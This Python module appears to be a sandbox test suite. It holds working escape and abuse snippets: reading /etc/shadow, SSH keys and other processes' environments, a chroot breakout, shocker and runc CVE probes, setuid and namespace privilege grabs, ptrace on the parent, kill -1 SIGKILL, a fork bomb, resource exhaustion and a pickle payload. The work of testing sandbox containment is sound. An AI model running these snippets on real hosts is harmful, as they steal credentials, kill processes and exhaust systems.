"""Ways out of a sandbox, after public lists: escapes from containers, from jails for Python, and
abuse of resources. Each is code that prints ESCAPED where it gets out; ``W`` has what the machine
outside holds. A test looks from outside, too.

Sources of the kinds: the checklists of HackTricks (Docker breakout, Python sandbox escapes), OWASP's
Docker cheat sheet, the tests of bubblewrap, nsjail and isolate, and the CVEs that are named here.
"""

from __future__ import annotations

LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"

READING = {
    "a file of the home folder": """
try:
    print("ESCAPED", open(W["secret_file"]).read())
except OSError as e:
    print(e)
""",
    "keys and passwords in known places": """
import glob, os
for pattern in ["/root/.[bs]*", "/home/*/.ssh/*", "/etc/shadow", "/etc/hostname", "/var/lib/*", "/run/*", W["folder"] + "/*"]:
    for path in glob.glob(pattern):
        print("ESCAPED", path)
""",
    "the environment": """
import os
if W["variable"] in os.environ or W["variable"].encode() in os.environb: print("ESCAPED", os.environ)
""",
    "the environment of other processes": """
import glob
for path in glob.glob("/proc/*/environ") + ["/proc/%d/environ" % W["pid"]]:
    try: text = open(path, "rb").read()
    except OSError: continue
    if W["variable"].encode() in text: print("ESCAPED", text)
""",
    "the command lines of other processes": """
import glob
for path in glob.glob("/proc/[0-9]*/cmdline"):
    if str(W["victim"]) in path: print("ESCAPED", path)
""",
    "the memory of its parent": LIBC
    + """
for pid in (os.getppid(), 1, W["pid"]):
    try: open(f"/proc/{pid}/mem", "rb"); print("ESCAPED", pid)
    except OSError: pass
    class V(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
    b = ctypes.create_string_buffer(8); a = V(ctypes.addressof(b), 8); r = V(W["address"], 8)
    if libc.process_vm_readv(pid, ctypes.byref(a), 1, ctypes.byref(r), 1, 0) > 0: print("ESCAPED", b.raw)
""",
    "a descriptor that its parent left open": """
import os
for fd in range(3, 1024):
    try: print("ESCAPED", os.read(fd, 100))
    except OSError: pass
""",
    "the old root below the new one (chroot)": LIBC
    + """
try:
    os.mkdir("d"); os.chroot("d")
    for _ in range(64): os.chdir("..")
    os.chroot("."); print("ESCAPED", os.listdir("/"))
except OSError as e: print(e)
""",
    "a file by its handle (CVE-2014-9357, shocker)": LIBC
    + """
handle = ctypes.create_string_buffer(b"\\x08\\0\\0\\0\\x01\\0\\0\\0" + b"\\x02" + bytes(7), 128)
fd = os.open("/", os.O_RDONLY)
if libc.open_by_handle_at(fd, handle, os.O_RDONLY) >= 0: print("ESCAPED")
""",
    "devices of the disk and of memory": """
import os, stat
for major, minor in ((8, 0), (1, 1), (1, 2), (254, 0), (259, 0)):
    try:
        os.mknod(f"node{major}.{minor}", 0o600 | stat.S_IFBLK, os.makedev(major, minor)); print("ESCAPED")
    except OSError: pass
for name in ("mem", "kmem", "kmsg", "sda", "vda", "nvme0n1", "fuse", "kvm", "loop-control", "vsock", "net/tun"):
    try: os.open(f"/dev/{name}", os.O_RDWR); print("ESCAPED", name)
    except OSError: pass
""",
    "keys of the kernel's keyring": LIBC
    + """
for keyring in (-1, -2, -3, -4, -5):
    if libc.syscall(W["keyctl"], 6, keyring, 0, 0, 0) >= 0: print("ESCAPED", keyring)
    if libc.syscall(W["add_key"], b"user", b"appl", b"x", 1, keyring) >= 0: print("ESCAPED", keyring)
""",
    "shared memory of System V": LIBC
    + """
libc.shmat.restype = ctypes.c_void_p
if libc.shmat(W["segment"], None, 0) not in (None, 2**64 - 1): print("ESCAPED")
if libc.shmget(0x4150, 100, 0o1777) >= 0: print("ESCAPED")
""",
    "shared memory of POSIX": """
import os
from pathlib import Path
for path in Path("/dev/shm").glob("*"): print("ESCAPED", path)
try: print("ESCAPED", open(W["shared_memory"]).read())
except OSError as e: print(e)
""",
}

NETWORK = {
    "TCP by IPv4": """
import socket
s = socket.create_connection(("127.0.0.1", W["tcp4"]), 2); s.send(b"out"); print("ESCAPED")
""",
    "TCP by IPv6": """
import socket
s = socket.socket(socket.AF_INET6); s.settimeout(2); s.connect(("::1", W["tcp6"])); s.send(b"out"); print("ESCAPED")
""",
    "UDP, as DNS uses it": """
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b"out", ("127.0.0.1", W["udp"])); print("ESCAPED")
""",
    "a name that is looked up": """
import socket
print("ESCAPED", socket.getaddrinfo(W["name"], 80))
""",
    "a UNIX socket, as Docker has one": """
import socket
s = socket.socket(socket.AF_UNIX); s.connect(W["unix"]); s.send(b"out"); print("ESCAPED")
""",
    "an abstract UNIX socket (CVE-2020-15257)": """
import socket
s = socket.socket(socket.AF_UNIX); s.connect("\\0" + W["abstract"]); s.send(b"out"); print("ESCAPED")
""",
    "sockets to the host of a virtual machine, and of the kernel": """
import socket
for family, kind in ((40, 1), (16, 3), (17, 3), (38, 5), (15, 3)):
    try: socket.socket(family, kind); print("ESCAPED", family)
    except OSError: pass
""",
    "io_uring, which filters do not see": LIBC
    + """
buffer = ctypes.create_string_buffer(256)
if libc.syscall(425, 4, buffer) >= 0: print("ESCAPED")
""",
    "system calls by another table (x32)": LIBC
    + """
if os.uname().machine != "x86_64": raise SystemExit
if libc.syscall(0x40000000 | 41, 2, 1, 0) >= 0: print("ESCAPED")
""",
    "system calls of 32 bits": LIBC
    + """
import mmap
if os.uname().machine != "x86_64": raise SystemExit
page = mmap.mmap(-1, 4096, prot=7)
page.write(bytes.fromhex("b814000000cd80c3"))  # getpid by int 0x80
call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
print("ESCAPED", call())
""",
}

WRITING = {
    "a file outside": """
try: open(W["canary"], "w").write("x"); print("ESCAPED")
except OSError as e: print(e)
""",
    "a link out of the work folder": """
import os
for number, target in enumerate((W["folder"], "/..", "/proc/1/root", "/proc/self/cwd/..")):
    os.symlink(target, f"link{number}")
    try: open(f"link{number}/canary", "w").write("x"); print("ESCAPED", target)
    except OSError: pass
""",
    "a race of links": """
import os, threading
os.mkdir("inner")
def swap():
    for _ in range(300):
        try: os.rename("inner", "other"); os.symlink(W["folder"], "inner"); os.unlink("inner"); os.rename("other", "inner")
        except OSError: pass
thread = threading.Thread(target=swap); thread.start()
while thread.is_alive():
    try: open("inner/canary", "w").write("x")
    except OSError: pass
""",
    "the program that runs it (CVE-2019-5736)": """
import os, sys
for path in ("/proc/self/exe", "/proc/1/exe", sys.executable, os.path.realpath(sys.executable)):
    try: os.open(path, os.O_WRONLY); print("ESCAPED", path)
    except OSError: pass
""",
    "the standard library": """
import os
try: open(os.path.dirname(os.__file__) + "/sitecustomize.py", "w").write("import os"); print("ESCAPED")
except OSError as e: print(e)
""",
    "mounts that are made writable": LIBC
    + """
for path in (b"/", b"/usr", os.path.dirname(os.__file__).encode()):
    if libc.mount(b"none", path, b"", 32 | 4096, b"") == 0: print("ESCAPED", path)
""",
    "new mounts": LIBC
    + """
for kind in (b"proc", b"sysfs", b"tmpfs", b"overlay", b"cgroup", b"cgroup2", b"bpf"):
    if libc.mount(kind, b"/sandbox", kind, 0, b"") == 0: print("ESCAPED", kind)
if libc.syscall(430, b"proc", 0) >= 0: print("ESCAPED fsopen")
if libc.syscall(428, -100, b"/", 1) >= 0: print("ESCAPED open_tree")
""",
    "files of the kernel (core_pattern, release_agent, sysrq)": """
import glob, os
for path in ["/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/kernel/uevent_helper", *glob.glob("/sys/fs/cgroup/**/release_agent")]:
    try: os.open(path, os.O_WRONLY); print("ESCAPED", path)
    except OSError: pass
""",
    "another user": LIBC
    + """
import shutil, subprocess
for call in (lambda: os.setuid(0), lambda: os.setreuid(0, 0), lambda: os.setresuid(0, 0, 0), lambda: os.setgid(0), lambda: os.setgroups([0])):
    try: call(); print("ESCAPED", os.getresuid())
    except OSError: pass
shutil.copy("/bin/sh", "sh"); os.chmod("sh", 0o6755)
print(subprocess.run(["./sh", "-p", "-c", "id -u"], capture_output=True, text=True).stdout.replace("65534", "").strip() and "ESCAPED")
for name in ("su", "mount", "sudo", "passwd"):
    path = shutil.which(name)
    if path and os.stat(path).st_mode & 0o4000:
        code = "import os; os.execv(%r, [%r, '--version'])" % (path, name)
        subprocess.run([path, "--version"], capture_output=True)
        if libc.prctl(39, 0, 0, 0, 0) != 1: print("ESCAPED", "new rights are possible")
""",
    "new rights by new namespaces": LIBC
    + """
import threading
for flag in (0x80, 0x20000, 0x2000000, 0x4000000, 0x8000000, 0x10000000, 0x20000000, 0x40000000):
    if libc.unshare(flag) == 0: print("ESCAPED unshare", hex(flag))
    pid = libc.syscall(W["clone"], flag | 17, 0, 0, 0, 0)
    if pid == 0: os._exit(0)
    if pid > 0: os.waitpid(pid, 0); print("ESCAPED clone", hex(flag))
args = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17)
pid = libc.syscall(435, args, 88)
if pid == 0: os._exit(0)
if pid > 0: print("ESCAPED clone3")
""",
    "capabilities that are taken back": LIBC
    + """
header = (ctypes.c_uint32 * 2)(0x20080522, 0); data = (ctypes.c_uint32 * 6)(*[0xffffffff] * 6)
if libc.capset(header, data) == 0: print("ESCAPED")
if any(libc.prctl(23, n, 0, 0, 0) == 1 for n in range(41)): print("ESCAPED bounding set")
""",
    "the kernel: modules, programs, clocks, names": LIBC
    + """
import socket, time
buffer = ctypes.create_string_buffer(256)
for number in W["kernel_calls"]:
    ctypes.set_errno(0)
    if libc.syscall(number, 0, buffer, 0, 0, 0) >= 0 or ctypes.get_errno() not in (1, 38): print("ESCAPED", number, ctypes.get_errno())
try: socket.sethostname("escaped"); print("ESCAPED")
except OSError: pass
try: time.clock_settime(time.CLOCK_REALTIME, 0); print("ESCAPED")
except OSError: pass
""",
}

OTHERS = {
    "a debugger on its parent": LIBC
    + """
for pid in (os.getppid(), 1, W["pid"], W["victim"]):
    for request in (16, 0x4206):
        if libc.ptrace(request, pid, 0, 0) == 0: print("ESCAPED", pid)
""",
    "signals to others": """
import os, signal
for pid in (W["victim"], W["pid"], os.getppid(), 1, -W["victim"]):
    for number in (signal.SIGTERM, signal.SIGKILL, signal.SIGSTOP):
        try: os.kill(pid, number)
        except OSError: pass
""",
    "signals to all": """
import os, signal
for _ in range(3):
    try: os.kill(-1, signal.SIGKILL)
    except OSError: pass
""",
    "a descriptor of another process": LIBC
    + """
for pid in (1, W["pid"], W["victim"]):
    fd = libc.syscall(434, pid, 0)
    if fd >= 0:
        for other in range(16):
            if libc.syscall(438, fd, other, 0) >= 0: print("ESCAPED", pid, other)
""",
    "characters that are typed at its terminal (CVE-2017-5226)": """
import fcntl, os
for path in ("/dev/tty", "/dev/pts/0", "/dev/console"):
    try: fd = os.open(path, os.O_RDWR); print("ESCAPED", path)
    except OSError: continue
for fd in range(3):
    for request in (0x5412, 0x541C, 0x5412 | 1 << 32):
        try: fcntl.ioctl(fd, request, b"x"); print("ESCAPED", fd)
        except (OSError, OverflowError): pass
""",
}

RESULTS = {
    "an answer that is unpickled": """
import os, pickle, sys
class Payload:
    def __reduce__(self): return (open, (W["canary"], "w"))
sys.stdout.buffer.write(pickle.dumps(Payload()))
""",
    "a result that it writes itself": """
import os
for fd in range(1024):
    for text in (b'{"ended": "exit", "exit_code": 0}\\n', b'{"refused": "x"}\\n'):
        try: os.write(fd, text)
        except OSError: pass
os._exit(7)
""",
}

RESOURCES = {
    "a fork bomb": """
import os, time
while True:
    try: os.fork()
    except OSError: pass
""",
    "a bomb of threads": """
import threading, time
for number in range(5000):
    threading.Thread(target=time.sleep, args=(60,)).start()
print("ESCAPED")
""",
    "all memory": """
kept = []
for _ in range(4000): kept.append(b"x" * 2**20)
print("ESCAPED")
""",
    "all memory, outside of its address space": LIBC
    + """
import mmap
kept = 0
for number in range(4000):
    fd = libc.memfd_create(b"x", 0)
    if fd < 0: break
    os.write(fd, b"x" * 2**20); kept += 1
for number in range(200):
    segment = libc.shmget(0, 2**24, 0o1600)
    if segment >= 0: kept += 1
if kept: print("ESCAPED", kept)
""",
    "all of the disk": """
import os
written = 0
for number in range(100):
    try:
        with open(f"file{number}", "wb", 0) as opened:
            for _ in range(100): written += opened.write(b"x" * 2**20)
    except OSError as e: continue
if written > 65 * 2**20: print("ESCAPED", written)
for place in ("/", "/dev", "/etc", "/dev/shm", "/var/tmp", "/usr/local", "/run"):
    try: open(place + "/x", "w").write("x"); print("ESCAPED", place)
    except OSError: pass
""",
    "all inodes": """
import os
count = 0
try:
    for number in range(30000): os.close(os.open(f"n{number}", os.O_CREAT)); count += 1
except OSError: pass
if count > 20000: print("ESCAPED", count)
""",
    "all open files": """
import os
kept = []
try:
    for _ in range(5000): kept.append(os.open("/dev/null", 0))
    print("ESCAPED")
except OSError: pass
""",
    "output without an end": """
import os
while True: os.write(1, b"x" * 65536); os.write(2, b"y" * 65536)
""",
    "deafness to signals": """
import signal, time
for number in signal.valid_signals():
    try: signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError): pass
signal.pthread_sigmask(signal.SIG_BLOCK, signal.valid_signals())
time.sleep(1000)
""",
    "limits that are raised": """
import resource
for kind in range(16):
    try:
        soft, hard = resource.getrlimit(kind)
        if hard != resource.RLIM_INFINITY: resource.setrlimit(kind, (hard + 1, hard + 1)); print("ESCAPED", kind)
    except (OSError, ValueError): pass
""",
    "a process that outlives it": """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)", W["marker"]])
    os._exit(0)
time.sleep(0.3)
""",
    "a process that holds the output open": """
import os, sys, time
if os.fork() == 0:
    os.setsid(); time.sleep(600)
print("done")
""",
}

ESCAPES = {**READING, **NETWORK, **WRITING, **OTHERS, **RESULTS, **RESOURCES}

CONTROLS = (
    "a file of the home folder",
    "the environment",
    "the command lines of other processes",
    "a descriptor that its parent left open",
    "shared memory of System V",
    "TCP by IPv4",
    "UDP, as DNS uses it",
    "a UNIX socket, as Docker has one",
    "an abstract UNIX socket (CVE-2020-15257)",
    "a file outside",
    "a link out of the work folder",
    "all open files",
    "a process that outlives it",
)
"""Those that do no harm, and get out where there is no sandbox: they show that the tests see it."""
